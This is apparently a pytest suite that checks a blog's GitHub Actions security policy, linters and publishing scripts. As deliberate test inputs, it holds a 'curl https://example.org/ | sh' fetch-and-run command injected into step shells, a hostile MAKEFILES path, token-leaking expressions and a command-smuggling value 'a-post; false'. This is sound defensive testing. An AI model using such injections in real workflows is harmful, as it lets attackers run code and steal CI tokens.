"""The workflows: what they must never lose, what their steps do, and what their own linters say."""

import json
import os
import re
import shutil
import subprocess
import sys
from fnmatch import fnmatch
from pathlib import Path
from typing import Any

import pytest
from policy import Workflow, loosened
from ruamel.yaml import YAML

ROOT = Path(__file__).parents[2]
FOLDER = ROOT / ".github" / "workflows"
BIN = Path(sys.executable).parent


def parsed() -> dict[str, Workflow]:
    """The workflows by the name of their file, as YAML 1.2 reads them: `on` is a word, not true."""
    return {path.name: YAML(typ="safe").load(path) for path in sorted(FOLDER.glob("*.y*ml"))}


def test_policy_holds():
    """The workflows as they are committed are as tight as they are meant to be."""
    assert loosened(parsed()) == []


GONE = "gone"
MAIN = "github.ref == 'refs/heads/main'"
TOKEN = "${{ github.token }}"
PIPE = "curl https://example.org/ | sh"
SHA = "de0fac2e4500dabe0009e67214ff5f5447ce83dd"
CACHE = {"uses": f"actions/cache@{SHA}", "with": {"path": ".venv", "key": "venv"}}
SCRIPT = {"uses": f"actions/github-script@{SHA}", "with": {"script": "console.log(1)"}}
# What is set, or is GONE, and where: the file and the keys down to it; + adds to a list.
LOOSER = {
    "pull requests with rights": ("check.yml on pull_request_target", None),
    "pull requests published": ("publish.yml on pull_request", None),
    "published after another workflow": ("publish.yml on workflow_run", {"workflows": ["check"]}),
    "published from any branch": ("publish.yml on push branches 0", "**"),
    "executed from any branch": ("publish.yml jobs execute if", "needs.plan.outputs.posts != '[]'"),
    "main or something else": ("publish.yml jobs audit if", f"{MAIN} || github.actor == 'someone'"),
    "no reviewers": ("publish.yml jobs execute environment", GONE),
    "posts may write": ("publish.yml jobs execute permissions contents", "write"),
    "strangers may write": ("check.yml jobs test permissions", "write-all"),
    "rights at the top": ("check.yml permissions", {"contents": "read"}),
    "rights by default": ("publish.yml permissions", GONE),
    "tag for a commit": ("check.yml jobs test steps 0 uses", "actions/checkout@v6"),
    "action of a stranger": ("publish.yml jobs build steps +", {"uses": f"someone/else@{SHA}"}),
    "token left behind": ("publish.yml jobs execute steps 0 with persist-credentials", GONE),
    "head of a fork": ("publish.yml jobs execute steps 0 with ref", "${{ github.head_ref }}"),
    "artifacts of a stranger": ("publish.yml jobs build steps 2 with run-id", "1"),
    "secret for posts": ("publish.yml jobs execute env SECRET", "${{ secrets.SECRET }}"),
    "token for posts": ("publish.yml jobs execute steps 2 env", {"GH_TOKEN": TOKEN}),
    "token in a job's env": ("publish.yml jobs execute env GH_TOKEN", TOKEN),
    "token in the workflow's env": ("publish.yml env GH_TOKEN", TOKEN),
    "token by index": ("check.yml jobs test steps 2 env", {"GH_TOKEN": "${{ github['token'] }}"}),
    "token among all else": ("publish.yml jobs execute env CONTEXT", "${{ toJSON(github) }}"),
    "token in a name": ("publish.yml jobs execute steps 2 name", TOKEN),
    "writer runs posts": ("publish.yml jobs propose steps +", {"run": "make execute"}),
    "writer runs a script": ("publish.yml jobs propose steps +", SCRIPT),
    "shell of a step": ("check.yml jobs test steps 2 shell", f"bash -c '{PIPE}' {{0}}"),
    "shell of a job": ("publish.yml jobs execute defaults", {"run": {"shell": f"bash -c '{PIPE}' {{0}}"}}),
    "makefile before ours": ("publish.yml jobs build env MAKEFILES", "docs/evil.mk"),
    "cache for the GPU": ("publish.yml jobs execute steps +", CACHE),
    "strangers on the GPU": ("check.yml jobs test runs-on", "${{ vars.GPU_RUNNER }}"),
    "no timeout": ("publish.yml jobs execute timeout-minutes", GONE),
    "hours": ("publish.yml jobs execute timeout-minutes", 360),
    "no concurrency": ("publish.yml concurrency", GONE),
    "deployed after a failure": ("publish.yml jobs deploy if", f"always() && {MAIN}"),
    "deployed without waiting": ("publish.yml jobs deploy needs", GONE),
    "no make target": ("check.yml jobs test steps +", {"run": PIPE}),
    "errors ignored": ("check.yml jobs test steps 2 continue-on-error", True),
    "tests switched off": ("check.yml jobs test if", "false"),
    "tests left out": ("check.yml jobs test steps 2", GONE),
    "runs of pull requests not verified": ("check.yml jobs verify", GONE),
    "runs not verified weekly": ("publish.yml jobs verify", GONE),
    "stale posts released": ("publish.yml jobs build steps 4 run", "make build"),
    "no schedule": ("publish.yml on schedule", []),
    "paths left out": ("check.yml on pull_request paths 0", GONE),
    "paths taken back": ("check.yml on pull_request paths +", "!blog_code/**"),
    "a third workflow": ("more.yml", {"on": "push", "jobs": {}}),
}


def loosen(workflows: dict[str, Workflow], keys: list[str], value: object):
    """Set what is under the keys, add it, or remove what is there."""
    inside: Any = workflows
    for key in keys[:-1]:
        inside = inside[int(key) if isinstance(inside, list) else key]
    last = int(keys[-1]) if keys[-1].isdigit() else keys[-1]
    if last == "+":
        inside.append(value)
    elif value == GONE:
        del inside[last]
    else:
        inside[last] = value


@pytest.mark.parametrize(("place", "value"), LOOSER.values(), ids=LOOSER)
def test_policy_notices(place: str, value: object):
    """Each way to loosen a workflow is noticed, there and nowhere else."""
    workflows, keys = parsed(), place.split()
    loosen(workflows, keys, value)
    found = loosened(workflows)

    assert found and all(line.startswith(" ".join(keys[:-1])) for line in found)


def test_writer_installs_nothing(tmp_path: Path):
    """What runs beside the right to write is two scripts of ours: no package, and no post, is in reach."""
    done = subprocess.run(
        ["make", "--dry-run", "--no-print-directory", f"BIN={tmp_path}", "accept", "propose"],
        cwd=ROOT, capture_output=True, text=True, timeout=60,
    )  # fmt: skip

    assert done.stdout.split() == [".github/accept.sh", ".github/propose.sh"]


@pytest.mark.parametrize("file", ["check.yml", "publish.yml"])
def test_filters_name_what_is_there(file: str):
    """Each path that starts a workflow exists, and all that pages quote and environments are made of does."""
    [paths] = [event["paths"] for event in parsed()[file]["on"].values() if event and "paths" in event]
    quoted = re.findall(r"^ +- ((?:docs|benchmarks)/\S+)$", (ROOT / "mkdocs.yml").read_text(), re.MULTILINE)

    assert [path for path in paths if not list(ROOT.glob(path))] == []
    for name in [*quoted, ".python-version", "requirements-gpu.lock", f".github/workflows/{file}"]:
        named = f"{name}/a" if (ROOT / name).is_dir() else name
        assert any(fnmatch(named, path) for path in paths), name


def test_versions_stand_beside_commits():
    """The version stands beside each pinned commit, and an action is the same commit everywhere."""
    text = "".join(path.read_text(encoding="utf-8") for path in FOLDER.glob("*"))
    lines = re.findall(r"uses: (\S+)@([0-9a-f]{40}) # (v[\d.]+)$", text, re.MULTILINE)

    assert len(lines) == text.count("uses:")
    assert len(set(lines)) == len({action for action, _, _ in lines})


@pytest.mark.parametrize(
    "command",
    [
        ["zizmor", "--offline", "--no-progress", "--persona", "auditor", ".github"],
        ["check-jsonschema", "--builtin-schema", "vendor.github-workflows", *map(str, FOLDER.glob("*"))],
        ["check-jsonschema", "--builtin-schema", "vendor.dependabot", ".github/dependabot.yml"],
    ],
    ids=["zizmor", "workflow-schema", "dependabot-schema"],
)
def test_linters_are_silent(command: list[str]):
    """The linters of workflows, which know more attacks than this policy, find nothing."""
    command = [str(BIN / command[0]), *command[1:]]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=120)

    assert done.returncode == 0, done.stdout + done.stderr


def test_steps_stand_in_the_makefile():
    """Every step's target can be called here: make knows how to reach it."""
    jobs = [job for workflow in parsed().values() for job in workflow["jobs"].values()]
    for command in sorted({step["run"] for job in jobs for step in job["steps"] if "run" in step}):
        done = subprocess.run(
            [*command.split(), "--dry-run", "--assume-old=.venv/ready", "POST=a-post"],
            cwd=ROOT, capture_output=True, text=True, timeout=60,
        )  # fmt: skip

        assert done.returncode == 0, f"{command}: {done.stderr}"


def plan(verdicts: list[dict], output: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, ROOT / ".github" / "plan.py"]
    environment = {**os.environ, "GITHUB_OUTPUT": str(output)}
    given = json.dumps(verdicts)
    return subprocess.run(command, input=given, env=environment, text=True, capture_output=True, timeout=60)


def test_plan_is_a_job_a_post(tmp_path: Path):
    """The matrix holds the posts that are stale or due and no other."""
    statuses = ["fresh", "due", "stale", "prose", "unexecuted"]
    done = plan([{"post": f"is-{status}", "status": status} for status in statuses], tmp_path / "output")

    assert done.returncode == 0, done.stderr
    assert (tmp_path / "output").read_text() == 'posts=["is-due", "is-stale"]\n'


def test_plan_refuses_a_broken_post(tmp_path: Path):
    """A post that no run can fix stops the publication, by name."""
    done = plan([{"post": "one", "status": "broken"}], tmp_path / "output")

    assert done.returncode == 1
    assert "broken: one" in done.stderr


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A checkout with a post, its accepted run and two locks; its origin is a bare repository beside it."""
    checkout = tmp_path / "checkout"
    locks = ("requirements.lock", "requirements-gpu.lock")
    for name in ("docs/posts/one.md", "docs/runs/one/old.txt", *locks, "Makefile"):
        (checkout / name).parent.mkdir(parents=True, exist_ok=True)
        (checkout / name).write_text("as committed\n")
    (checkout / ".gitignore").write_text(".blog/\n")
    shutil.copytree(ROOT / ".github", checkout / ".github")
    git(tmp_path, "init", "--quiet", "--bare", "--initial-branch=main", "origin.git")
    git(checkout, "init", "--quiet", "--initial-branch=main")
    git(checkout, "remote", "add", "origin", str(tmp_path / "origin.git"))
    git(checkout, "add", "--all")
    author = ("-c", "user.name=A", "-c", "user.email=a@example.org")
    git(checkout, *author, "commit", "--quiet", "--message=First")
    git(checkout, "push", "--quiet", "origin", "main")
    return checkout


def git(folder: Path, *arguments: str) -> str:
    """What git says in the folder; an error where it fails."""
    return subprocess.check_output(["git", *arguments], cwd=folder, text=True, timeout=60).strip()


def script(checkout: Path, name: str) -> subprocess.CompletedProcess[str]:
    """Run a script of `.github` with a `gh` that knows no pull request and writes down what it is asked."""
    fake = checkout.parent / "bin" / "gh"
    fake.parent.mkdir(exist_ok=True)
    fake.write_text(f'#!/bin/sh\necho "$@" >> {checkout.parent}/gh.log\n')
    fake.chmod(0o755)
    environment = {**os.environ, "PATH": f"{fake.parent}:{os.environ['PATH']}"}
    return subprocess.run(
        [f".github/{name}"], cwd=checkout, capture_output=True, text=True, env=environment, timeout=60
    )


def test_accept_replaces_a_run_whole(checkout: Path):
    """A run that a job left takes the place of the old one, of which no file stays."""
    artifact = checkout / ".blog" / "artifacts" / "runs" / "one"
    artifact.mkdir(parents=True)
    (artifact / "new.txt").write_text("new\n")
    done = script(checkout, "accept.sh")

    assert done.returncode == 0, done.stderr
    assert [path.name for path in (checkout / "docs/runs/one").iterdir()] == ["new.txt"]


def test_accept_takes_the_values_of_all_posts(checkout: Path):
    """A proposal of new runs brings the numbers that pages quote from them, or its own check would fail."""
    artifact = checkout / ".blog" / "artifacts" / "runs"
    (artifact / "one").mkdir(parents=True)
    (artifact / "values.yml").write_text("new\n")
    done = script(checkout, "accept.sh")

    assert done.returncode == 0, done.stderr
    assert (checkout / "docs/runs/values.yml").read_text() == "new\n"


def test_accept_refuses_the_run_of_no_post(checkout: Path):
    """An artifact under a name that no post has goes nowhere."""
    (checkout / ".blog/artifacts/runs/two").mkdir(parents=True)
    done = script(checkout, "accept.sh")

    assert done.returncode == 1
    assert not (checkout / "docs/runs/two").exists()


def test_propose_commits_runs_and_locks_only(checkout: Path):
    """The job that may write pushes two branches: one changes runs, one locks, neither anything else."""
    for name in ("docs/runs/one/old.txt", "requirements.lock", "Makefile", "docs/posts/one.md"):
        (checkout / name).write_text("changed\n")
    (checkout / "docs/runs/one/new.txt").write_text("new\n")
    done = script(checkout, "propose.sh")

    assert done.returncode == 0, done.stderr
    origin = checkout.parent / "origin.git"
    runs = git(origin, "diff", "--name-only", "main", "refresh/runs").split()
    locks = git(origin, "diff", "--name-only", "main", "refresh/locks").split()
    assert runs == ["docs/runs/one/new.txt", "docs/runs/one/old.txt"]
    assert locks == ["requirements.lock"]
    assert git(origin, "log", "-1", "--format=%s", "main") == "First"
    created = [line for line in (checkout.parent / "gh.log").read_text().splitlines() if "pr create" in line]
    assert len(created) == 2


def test_propose_is_quiet_where_nothing_changed(checkout: Path):
    """A week without change opens nothing."""
    done = script(checkout, "propose.sh")

    assert done.returncode == 0, done.stderr
    assert git(checkout.parent / "origin.git", "branch", "--list").split() == ["*", "main"]
    assert "pr create" not in (checkout.parent / "gh.log").read_text()


def made(tmp_path: Path, *arguments: str, **environment: str) -> str:
    """What the commands of a target would have been called with, by tools that only say so."""
    for name in ("blog", "python"):
        tool = tmp_path / name
        addresses = '"SITE_URL=$SITE_URL" "REPOSITORY_URL=$REPOSITORY_URL"'
        tool.write_text(f'#!/bin/sh\necho {name} "$@" {addresses} >&2\n')
        tool.chmod(0o755)
    ours = {"SITE_URL", "REPOSITORY_URL", "GITHUB_REPOSITORY", "GITHUB_SERVER_URL"}
    inherited = {key: value for key, value in os.environ.items() if key not in ours}
    done = subprocess.run(
        ["make", "--silent", "--assume-old=.venv/ready", f"BIN={tmp_path}", *arguments],
        cwd=ROOT, env=inherited | environment, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    return done.stderr


@pytest.mark.parametrize(
    ("environment", "address"),
    [
        ({"GITHUB_REPOSITORY": "someone/posts"}, "https://someone.github.io/posts/"),
        (
            {"GITHUB_REPOSITORY": "someone/posts", "SITE_URL": "https://posts.example/"},
            "https://posts.example/",
        ),
        ({"GITHUB_REPOSITORY": "someone/someone.github.io"}, "https://someone.github.io/"),
        ({"GITHUB_REPOSITORY": "someone/posts", "SITE_URL": ""}, "https://someone.github.io/posts/"),
        ({}, "https://example.org/"),
    ],
)
def test_release_knows_the_address_of_the_site(tmp_path: Path, environment: dict[str, str], address: str):
    """The site is built for publication under the address it will have, and refuses stale posts."""
    assert made(tmp_path, "release", **environment).startswith(f"blog build --release SITE_URL={address} ")


@pytest.mark.parametrize("target", ["build", "release"])
@pytest.mark.parametrize(
    ("environment", "address"),
    [
        ({"GITHUB_REPOSITORY": "someone/posts"}, "https://github.com/someone/posts"),
        (
            {"GITHUB_REPOSITORY": "someone/posts", "GITHUB_SERVER_URL": "https://git.example"},
            "https://git.example/someone/posts",
        ),
        (
            {"GITHUB_REPOSITORY": "someone/posts", "REPOSITORY_URL": "https://code.example/posts"},
            "https://code.example/posts",
        ),
        ({}, ""),
    ],
)
def test_pages_know_the_address_of_the_repository(
    tmp_path: Path, target: str, environment: dict[str, str], address: str
):
    """The site and its preview link to the repository that GitHub builds them from; elsewhere to none."""
    assert made(tmp_path, target, **environment).endswith(f" REPOSITORY_URL={address}\n")


def test_execute_takes_one_post(tmp_path: Path):
    """The matrix's post reaches the command as one word, whatever is in it; without one, nothing runs."""
    assert made(tmp_path, "execute", POST="a-post; false").startswith("blog run --force a-post; false ")
    assert "blog" not in made(tmp_path, "execute", POST="")


def test_plan_asks_what_is_stale(tmp_path: Path):
    """The plan is made of what `blog check` says."""
    told = made(tmp_path, "plan")

    assert "blog check --json" in told
    assert "python .github/plan.py" in told
